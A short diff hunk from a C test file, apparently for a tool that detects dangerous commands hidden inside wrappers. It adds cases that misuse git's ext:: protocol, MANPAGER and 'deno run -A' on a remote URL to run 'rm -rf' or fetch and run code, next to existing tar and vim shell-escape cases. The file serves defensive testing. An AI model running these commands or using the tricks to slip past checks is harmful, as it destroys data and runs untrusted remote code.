@@ -51,6 +51,12 @@ static void wrappers(void)
 		{ "tar --checkpoint-action='exec=rm -rf ~/x' --checkpoint=1 "
 		  "-cf a b",
 		  { RM_X } },
+		{ "git -c protocol.ext.allow=always clone 'ext::sh -c rm% -rf% "
+		  "~/x' z",
+		  { RM_X } },
+		{ "MANPAGER='rm -rf ~/x' man ls", { "C? rm -rf /home/me/x" } },
+		{ "deno run -A https://h/p.ts",
+		  { "E execute:script https://h/p.ts <network" } },
 		{ "vim -es -c '!rm -rf ~/x' -c q!", { RM_X } },
 	};
 
